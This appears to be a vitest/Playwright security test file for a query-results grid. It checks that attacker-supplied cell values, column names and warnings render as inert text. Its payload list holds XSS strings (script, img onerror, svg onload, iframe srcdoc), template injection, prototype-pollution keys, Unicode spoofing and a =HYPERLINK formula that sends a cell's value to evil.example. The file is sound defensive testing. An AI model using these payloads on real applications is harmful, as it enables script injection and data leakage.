import { describe, expect, it } from 'vitest';
import { copied, showTable } from './drive';
import { useRenderer } from './harness';
import type { OutputSpec } from './page/main';

const open = useRenderer();
const plant = 'window.pwned = true';

/** What an attacker puts into a log line. */
const values: readonly string[] = [
  `<script>${plant}</script>`,
  `<img src=x onerror="${plant}">`,
  `<svg onload="${plant}"><style>.hb-grid { display: none }</style>`,
  `javascript:${plant}`,
  `[click me](command:workbench.action.terminal.new)`,
  `<a href="https://evil.example/">https://login.microsoftonline.com</a>`,
  '=HYPERLINK("https://evil.example/?"&A1)',
  '"><iframe srcdoc="<script>parent.pwned = true</script>">',
  '\u001b[31mred\u001b[0m\u0007',
  'invoice\u202Efdp.exe',
  'pay\u200Bpal.com\u2066!\u2069\uFEFF',
  'tag\u{E0041}\u{E0042} \uD800 lone',
  'שלום עולם',
  '__proto__',
  '{{constructor.constructor("' + plant + '")()}}',
  'line one\nline two\r\n\tend',
  '\u0000nul',
];

const columns = [
  { name: `<img src=x onerror="${plant}">`, type: 'string' },
  { name: '__proto__', type: 'dynamic' },
  { name: 'exe.\u202Efdp', type: 'string' },
] as const;

const hostile: OutputSpec = {
  id: 'hostile',
  name: `<b onclick="${plant}">name</b>`,
  warnings: [`<script>${plant}</script>`],
  table: { kind: 'rows', columns, rows: values.map((value) => [value, JSON.stringify({ __proto__: value, [value]: [value] }), value]) },
};

describe('values from an attacker', () => {
  it('are text, and nothing runs, wherever they are shown', async () => {
    const { page, problems } = await open();
    const table = await showTable(page, hostile);
    for (const [row] of values.entries()) {
      await table.cell(row, 0).scrollIntoViewIfNeeded();
      await table.cell(row, 0).click();
      if (row === 0) await table.press('Space');
      await table.root.getByRole('region', { name: `Row ${row + 1}` }).waitFor();
    }
    await table.filterBox.fill('<script>');
    await expect.poll(() => table.rowCount()).toBeLessThan(values.length);
    expect(await table.text(0, 0)).toBe(values[0]);
    const markup = await page.locator('main').evaluate((main) => ({
      risky: main.querySelectorAll('script, iframe, img, a, style, object, embed, b').length,
      handlers: [...main.querySelectorAll('*')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on'))).length,
      links: main.querySelectorAll('[href], [src], [style*="url"]').length,
    }));
    expect(markup).toEqual({ risky: 0, handlers: 0, links: 0 });
    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
    expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('would fail this test if they ran', async () => {
    const { page } = await open();
    await page.addScriptTag({ url: '/planted.js', type: 'module' });
    await page.waitForFunction(() => window.pwned === true);
  });

  const shown: readonly (readonly [value: string, text: string])[] = [
    ['invoice\u202Efdp.exe', 'invoice<U+202E>fdp.exe'],
    ['pay\u200Bpal.com\u2066!\u2069\uFEFF', 'pay<U+200B>pal.com<U+2066>!<U+2069><U+FEFF>'],
    ['\u001b[31mred', '<U+001B>[31mred'],
    ['a\u{E0041}b \uD800', 'a<U+E0041>b <U+D800>'],
    ['one\ntwo\r\n\tend', 'one↵two␍↵⇥end'],
    ['<U+202E>', '<U+202E>'],
    ['שלום', 'שלום'],
  ];

  it('cannot hide characters', async () => {
    const { page } = await open();
    const table = await showTable(page, {
      id: 'hidden',
      table: { kind: 'rows', columns: [{ name: 'Text', type: 'string' }], rows: shown.map(([value]) => [value]) },
    });
    for (const [row, [, text]] of shown.entries()) expect(await table.text(row, 0)).toBe(text);
    const named = await showTable(page, {
      id: 'named',
      table: { kind: 'rows', columns: [{ name: 'exe.\u202Efdp', type: 'string' }], rows: [['a']] },
      warnings: ['odd \u200Bwarning'],
    });
    expect(await named.root.locator('.hb-name').textContent()).toBe('exe.<U+202E>fdp');
    expect(await named.root.locator('.hb-headcell').getAttribute('title')).toBe('exe.<U+202E>fdp (string)');
    await named.root.getByText('odd <U+200B>warning').waitFor();
    // What looks like our mark for a hidden character, and is just text, carries no badge.
    expect(await table.cell(0, 0).locator('.hb-hidden').count()).toBe(1);
    expect(await table.cell(5, 0).locator('.hb-hidden').count()).toBe(0);
  });

  it('of a megabyte do not slow the grid, cut by the host or not', async () => {
    const { page, problems } = await open();
    const table = await showTable(page, { id: 'long', table: { kind: 'long', rows: 300, length: 1024 * 1024 } });
    await expect.poll(() => table.rowCount()).toBe(300);
    await table.grid.focus();
    await table.press('Control+End', 'Home', 'Space');
    expect((await table.text(299, 0)).length).toBeLessThan(500);
    await table.root.getByRole('button', { name: /Show all 1,048,576 characters/ }).click();
    await expect.poll(() => table.root.locator('.hb-value').evaluate((value) => value.textContent.endsWith('end'))).toBe(true);
    await page.evaluate(() => {
      const text = JSON.stringify(['W'.repeat(1024 * 1024)]);
      const result = { columns: [{ name: 'Text', type: 'dynamic' }], rowCount: 1, preview: { rows: [[text]] } };
      window.hunt.renderJson('uncut', { version: 1, result });
    });
    await page.locator('#uncut .hb-cell').click();
    await page.keyboard.press('Space');
    await page.locator('#uncut').getByRole('region', { name: 'Row 1' }).waitFor();
    expect(problems).toEqual([]);
  });

  it('beyond what JavaScript can count or date are shown digit by digit', async () => {
    const { page } = await open();
    const rows = [
      ['9223372036854775807', '9999-12-31T23:59:59.9999999Z', 'NaN', '-10675199.02:48:05.4775808'],
      ['-9223372036854775808', '0001-01-01T00:00:00.0000001Z', '-Infinity', '00:00:00.0000001'],
      ['9223372036854775806', '10000-01-01T00:00:00.0000000Z', 1e300, '1.00:00:00'],
    ];
    const table = await showTable(page, {
      id: 'limits',
      table: {
        kind: 'rows',
        rows,
        columns: [
          { name: 'Long', type: 'long' },
          { name: 'Date', type: 'datetime' },
          { name: 'Real', type: 'real' },
          { name: 'Span', type: 'timespan' },
        ],
      },
    });
    expect(await table.text(0, 0)).toBe('9223372036854775807');
    expect(await table.text(0, 1)).toBe('9999-12-31 23:59:59.999');
    await table.root.getByRole('radio', { name: 'Local' }).click();
    expect(await table.text(2, 1)).toMatch(/10000-01-01/);
    await table.header('Long').click();
    await expect.poll(() => table.text(0, 0)).toBe('-9223372036854775808');
    expect(await table.text(1, 0)).toBe('9223372036854775806');
    await table.header('Span').click();
    await expect.poll(() => table.text(0, 3)).toBe('-10675199.02:48:05.4775808');
  });

  it('of deep JSON neither break the details nor lose a bracket', async () => {
    const { page, problems } = await open();
    const deep = `${'['.repeat(5000)}1${']'.repeat(5000)}`;
    const table = await showTable(page, { id: 'deep', table: { kind: 'rows', columns: [{ name: 'Json', type: 'dynamic' }], rows: [[deep.slice(0, 4000)]] } });
    await table.cell(0, 0).click();
    await table.press('Space');
    const text = await table.root.locator('.hb-value').textContent();
    expect(text?.replaceAll(/\s/g, '')).toBe(deep.slice(0, 4000));
    expect(problems).toEqual([]);
  });

  it('stay text in menus, filters, chips, groups, statistics, pivots and trees', async () => {
    const { page, problems } = await open();
    const table = await showTable(page, { ...hostile, id: 'parts', live: false });
    const menu = () => table.root.getByRole('menu').last();
    const chooseColumn = async (place: number, ...items: readonly string[]): Promise<void> => {
      await table.root.locator('.hb-headcell').nth(place).click({ button: 'right' });
      for (const name of items) await menu().getByText(name, { exact: true }).click();
    };
    for (const row of [0, 3, 9, 16]) {
      await table.cell(row, 0).scrollIntoViewIfNeeded();
      await table.cell(row, 0).click({ button: 'right' });
      await menu().waitFor();
      await table.press('Escape');
    }
    await table.cell(1, 0).click();
    await table.press('Shift+F10', 'ArrowDown', 'Enter');
    await table.root.locator('.hb-chip').waitFor();
    await chooseColumn(0, 'Filter…');
    await table.root.getByLabel('Condition').selectOption('values');
    await expect.poll(() => table.root.locator('.hb-choice').count()).toBe(values.length);
    await table.press('Escape');
    await chooseColumn(0, 'Statistics');
    await table.root.locator('.hb-topvalue').first().waitFor();
    await table.press('Escape');
    await chooseColumn(2, 'Pivot by this column…');
    await table.root.getByRole('dialog').getByLabel('Columns').selectOption('0');
    await table.root.getByRole('dialog').getByRole('button', { name: 'Show' }).click();
    await table.root.getByRole('button', { name: 'Back to the rows' }).click();
    await chooseColumn(0, 'Group by');
    await table.root.locator('.hb-grouprow').first().waitFor();
    await table.grid.focus();
    await table.press('Control+Home', 'ArrowRight', 'ArrowRight', 'Space');
    await table.root.getByRole('tree').first().waitFor();
    await table.press('Control+f');
    await page.keyboard.type('<img src=x onerror=');
    const markup = await page.locator('main').evaluate((main) => ({
      risky: main.querySelectorAll('script, iframe, img, a, style, object, embed, b[onclick]').length,
      handlers: [...main.querySelectorAll('*')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on'))).length,
    }));
    expect(markup).toEqual({ risky: 0, handlers: 0 });
    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
    expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('in names and places: 10,000 columns of one name, or of none', async () => {
    const { page, problems } = await open();
    const columns = Array.from({ length: 10_000 }, (_, index) => ({ name: index % 2 === 0 ? '' : '__proto__', type: 'string' as const }));
    const table = await showTable(page, { id: 'many', table: { kind: 'rows', columns, rows: [columns.map((_, index) => String(index))] } });
    await table.root.locator('.hb-headcell').nth(1).click({ button: 'right' });
    await table.root.getByRole('menuitem', { name: 'Hide' }).click();
    await expect.poll(() => table.grid.getAttribute('aria-colcount')).toBe('10000');
    expect(await table.text(0, 1)).toBe('2');
    await table.root.getByRole('button', { name: 'Columns' }).click();
    await table.root.getByText('The first 300 of 10,000 columns; search for the others.').waitFor();
    await table.press('Escape');
    await table.cell(0, 0).click();
    await table.press('Shift+ArrowRight', 'Shift+F10');
    await table.root.getByRole('menuitem', { name: 'Copy as' }).click();
    await table.root.getByRole('menuitem', { name: 'KQL datatable' }).click();
    expect(await copied(page)).toBe('datatable(Column1: string, Column2: string) [\n    "0", "2",\n]');
    await table.press('Shift+F10');
    await table.root.getByRole('menuitem', { name: 'Copy as' }).click();
    await table.root.getByRole('menuitem', { name: 'JSON' }).click();
    await expect.poll(() => copied(page)).toBe('[\n  {\n    "": "0",\n    "_2": "2"\n  }\n]');
    expect(problems).toEqual([]);
  });

  it('of deep JSON open level by level', async () => {
    const { page, problems } = await open();
    const deep = `${'['.repeat(5000)}1${']'.repeat(5000)}`;
    await page.evaluate((text) => {
      const result = { columns: [{ name: 'Json', type: 'dynamic' }], rowCount: 1, preview: { rows: [[text]] } };
      window.hunt.renderJson('nested', { version: 1, result });
    }, deep);
    await page.locator('#nested .hb-cell').click();
    await page.keyboard.press('Space');
    const tree = page.locator('#nested').getByRole('tree');
    await tree.getByRole('treeitem').first().focus();
    for (let level = 0; level < 30; level += 1) await page.keyboard.press('ArrowRight');
    expect(await tree.getByRole('treeitem').last().getAttribute('aria-level')).toBe('16');
    expect(problems).toEqual([]);
  });
});
